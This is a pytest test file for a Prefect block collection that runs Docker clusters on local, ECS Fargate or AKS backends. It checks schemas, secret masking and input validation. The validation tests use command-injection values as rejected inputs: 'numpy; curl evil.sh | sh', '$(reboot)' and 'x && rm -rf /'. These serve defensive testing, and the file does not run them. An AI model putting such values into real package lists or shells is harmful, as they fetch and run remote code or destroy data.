"""Blocks without a server: Prefect's standard block suite, validation, the provider union."""

from __future__ import annotations

import json

import pytest
from prefect.blocks.core import Block
from prefect.testing.standard_test_suites import BlockStandardTestSuite
from pydantic import SecretStr, ValidationError

from prefect_dockerparallel.blocks import (
    BLOCK_TYPES,
    AKSProvider,
    ClusterConfig,
    ECSFargateProvider,
    LocalProvider,
    WorkerContainer,
)


@pytest.mark.parametrize("block", BLOCK_TYPES, indirect=True, ids=lambda b: b.__name__)
class TestEveryBlockPassesPrefectsStandardSuite(BlockStandardTestSuite):
    @pytest.fixture
    def block(self, request: pytest.FixtureRequest) -> type[Block]:
        return request.param


def test_slugs_are_prefixed_and_unique() -> None:
    slugs = [b.get_block_type_slug() for b in BLOCK_TYPES]
    assert all(s.startswith("dockerparallel-") for s in slugs), slugs
    assert len(set(slugs)) == len(slugs) == 6


def test_every_provider_has_a_distinct_kind_literal() -> None:
    kinds = {cls: cls.model_fields["kind"].default for cls in (LocalProvider, ECSFargateProvider, AKSProvider)}
    assert kinds == {LocalProvider: "local", ECSFargateProvider: "ecs", AKSProvider: "aks"}
    with pytest.raises(ValidationError):
        LocalProvider(kind="ecs")


@pytest.mark.parametrize(
    "data, cls",
    [
        ({"kind": "local"}, LocalProvider),
        ({"kind": "ecs"}, ECSFargateProvider),
        ({"kind": "aks"}, AKSProvider),
        # A document saved without `kind` still resolves through its block type slug.
        ({"block_type_slug": "dockerparallel-ecs-fargate-provider"}, ECSFargateProvider),
        ({"block_type_slug": "dockerparallel-aks-provider"}, AKSProvider),
        # Neither: the one provider class that has all the given fields.
        ({"region_name": "eu-west-1"}, ECSFargateProvider),
        ({"namespace": "batch"}, AKSProvider),
    ],
)
def test_provider_union_resolves_the_right_class(data: dict, cls: type) -> None:
    assert type(ClusterConfig(provider=data).provider) is cls


def test_provider_union_from_a_json_round_trip() -> None:
    for provider in (LocalProvider(), ECSFargateProvider(), AKSProvider()):
        dumped = json.loads(ClusterConfig(provider=provider).model_dump_json())
        assert type(ClusterConfig.model_validate(dumped).provider) is type(provider)


def test_unknown_provider_kind_names_the_field() -> None:
    with pytest.raises(ValidationError) as err:
        ClusterConfig(provider={"kind": "gcp"})
    assert "provider" in str(err.value) and "'local', 'ecs', 'aks'" in str(err.value)
    with pytest.raises(ValidationError, match="provider"):
        ClusterConfig(provider={"gcp_project": "x"})
    with pytest.raises(ValidationError, match="provider"):
        ClusterConfig(provider={})


def test_nested_secrets_and_block_references_are_declared_in_the_schema() -> None:
    """Prefect masks only `secret_fields`; the UI offers saved providers only for references."""
    schema = ClusterConfig.model_json_schema()
    nested = {f"provider.{f}" for cls in (ECSFargateProvider, AKSProvider) for f in _secret_fields(cls)}
    assert nested and nested <= {s.rstrip(".*").rstrip(".") for s in schema["secret_fields"]}
    refs = schema["block_schema_references"]
    assert {r["block_type_slug"] for r in refs["provider"]} == {
        "dockerparallel-local-provider",
        "dockerparallel-ecs-fargate-provider",
        "dockerparallel-aks-provider",
        "dockerparallel-docker-provider",
    }
    assert refs["container"]["block_type_slug"] == "dockerparallel-worker-container"


def test_provider_schema_is_an_any_of_block_references_for_the_ui() -> None:
    prop = ClusterConfig.model_json_schema()["properties"]["provider"]
    assert "oneOf" not in prop and len(prop["anyOf"]) == 4
    definitions = ClusterConfig.model_json_schema()["definitions"]
    slugs = {definitions[r["$ref"].rsplit("/", 1)[1]]["block_type_slug"] for r in prop["anyOf"]}
    assert slugs == {
        "dockerparallel-local-provider",
        "dockerparallel-ecs-fargate-provider",
        "dockerparallel-aks-provider",
        "dockerparallel-docker-provider",
    }


@pytest.mark.parametrize(
    "kwargs, field",
    [
        ({"workers": -1}, "workers"),
        ({"worker_cpu": 0}, "worker_cpu"),
        ({"worker_memory": -5}, "worker_memory"),
        ({"idle_timeout": 1}, "idle_timeout"),
        ({"tags": {"dockerparallel-cluster": "x"}}, "tags"),
        ({"tags": {"team": "data science"}}, "tags"),
        ({"container": {"pip_packages": ["numpy; curl evil.sh | sh"]}}, "pip_packages"),
        ({"container": {"system_packages": ["$(reboot)"]}}, "system_packages"),
        ({"container": {"env": {"DOCKERPARALLEL_REDIS_PASSWORD": "x"}}}, "env"),
        ({"container": {"env": {"1BAD": "x"}}}, "env"),
        ({"container": {"image": "python 3.11"}}, "image"),
        ({"container": {"workers_per_container": 0}}, "workers_per_container"),
        ({"container": {"ssh_public_key": "-----BEGIN OPENSSH PRIVATE KEY-----"}}, "ssh_public_key"),
    ],
)
def test_invalid_values_fail_with_the_field_name(kwargs: dict, field: str) -> None:
    with pytest.raises(ValidationError) as err:
        ClusterConfig(**{"provider": LocalProvider(), **kwargs})
    assert field in str(err.value)


def test_worker_container_package_helpers_validate_and_deduplicate() -> None:
    wc = WorkerContainer(pip_packages=["numpy"])
    assert wc.add_pip_packages("numpy", "pandas>=2") == ["numpy", "pandas>=2"]
    assert wc.set_system_packages("git") == ["git"]
    assert wc.add_system_packages("git", "curl") == ["git", "curl"]
    with pytest.raises(ValueError, match="pip_packages"):
        wc.add_pip_packages("x && rm -rf /")
    assert wc.pip_packages == ["numpy", "pandas>=2"]


def test_ssh_key_is_accepted_and_reaches_the_spec() -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host"
    assert WorkerContainer(ssh_public_key=key).to_spec().ssh_public_key == key
    assert WorkerContainer(ssh_public_key="  ").ssh_public_key is None


def test_to_spec_carries_every_size_and_tag() -> None:
    cfg = ClusterConfig(
        provider=LocalProvider(),
        workers=6,
        worker_cpu=512,
        worker_memory=1024,
        server_cpu=512,
        server_memory=1024,
        idle_timeout=30,
        tags={"team": "risk"},
        container=WorkerContainer(image="python:3.11-slim", workers_per_container=2, env={"A": "1"}),
    )
    spec = cfg.to_spec("nightly-sweep", flow_run_id="abc")
    assert (spec.workers, spec.worker_cpu, spec.worker_memory) == (6, 512, 1024)
    assert (spec.server_cpu, spec.server_memory, spec.idle_timeout) == (512, 1024, 30)
    assert spec.container.image == "python:3.11-slim" and spec.container.env == (("A", "1"),)
    assert spec.containers_for(spec.workers) == 3
    assert spec.labels == {"dockerparallel-cluster": "nightly-sweep", "dockerparallel-flow-run": "abc", "team": "risk"}


def test_merged_overrides_only_given_fields_and_validates() -> None:
    cfg = ClusterConfig(provider=ECSFargateProvider(), workers=4, worker_cpu=2048)
    out = cfg.merged(workers=16, worker_cpu=None)
    assert (out.workers, out.worker_cpu, type(out.provider)) == (16, 2048, ECSFargateProvider)
    assert cfg.workers == 4
    with pytest.raises(ValidationError, match="workers"):
        cfg.merged(workers=-2)
    with pytest.raises(TypeError, match="nope"):
        cfg.merged(nope=1)


def test_local_provider_builds_the_local_driver() -> None:
    driver = LocalProvider().build_provider()
    assert driver.kind == "local" and driver.is_remote is False


def _secret_fields(cls: type[Block]) -> list[str]:
    return [n for n, f in cls.model_fields.items() if "Secret" in str(f.annotation)]


@pytest.mark.parametrize("cls", [ECSFargateProvider, AKSProvider], ids=lambda c: c.__name__)
def test_provider_secrets_never_show_in_repr_or_json(cls: type[Block]) -> None:
    fields = _secret_fields(cls)
    assert fields, f"{cls.__name__} has no SecretStr/SecretDict field"
    block = cls(**{f: _secret_value(cls, f) for f in fields})
    for text in (repr(block), block.model_dump_json(), repr(ClusterConfig(provider=block))):
        assert "s3cr3t" not in text


def _secret_value(cls: type[Block], field: str) -> object:
    """A recognisable secret of the right shape for a SecretStr or SecretDict field."""
    annotation = str(cls.model_fields[field].annotation)
    return {"token": f"s3cr3t-{field}"} if "SecretDict" in annotation else SecretStr(f"s3cr3t-{field}")


def test_collection_entry_point_exposes_every_block_type() -> None:
    """A Prefect server imports installed collections at start and registers every Block class
    they define: this is how the types reach the UI catalog without `prefect block register`."""
    from importlib.metadata import entry_points

    import prefect_dockerparallel
    from prefect.plugins import load_prefect_collections

    eps = {ep.name: ep.value for ep in entry_points(group="prefect.collections")}
    if "prefect_dockerparallel" not in eps:
        pytest.skip("prefect-dockerparallel is not installed as a distribution (pip install -e .)")
    assert eps["prefect_dockerparallel"] == "prefect_dockerparallel"
    assert "prefect_dockerparallel" in load_prefect_collections()
    for cls in BLOCK_TYPES:
        assert Block.get_block_class_from_key(cls.get_block_type_slug()) is cls
        # `prefect block register -m prefect_dockerparallel` scans the package's attributes.
        assert getattr(prefect_dockerparallel, cls.__name__) is cls


def test_invalid_fargate_sizes_fail_when_the_block_is_built() -> None:
    ecs = ECSFargateProvider()
    with pytest.raises(ValidationError, match="server_cpu/server_memory"):
        ClusterConfig(provider=ecs, server_cpu=256, server_memory=4096)
    with pytest.raises(ValidationError, match="workers_per_container"):
        ClusterConfig(provider=ecs, worker_cpu=16384, worker_memory=32768, container=WorkerContainer(workers_per_container=2))
    # The same sizes are fine for providers without Fargate's fixed pairs.
    ClusterConfig(provider=LocalProvider(), server_cpu=256, server_memory=4096)
    assert ClusterConfig(provider=ecs, worker_cpu=512, worker_memory=1024).provider.kind == "ecs"
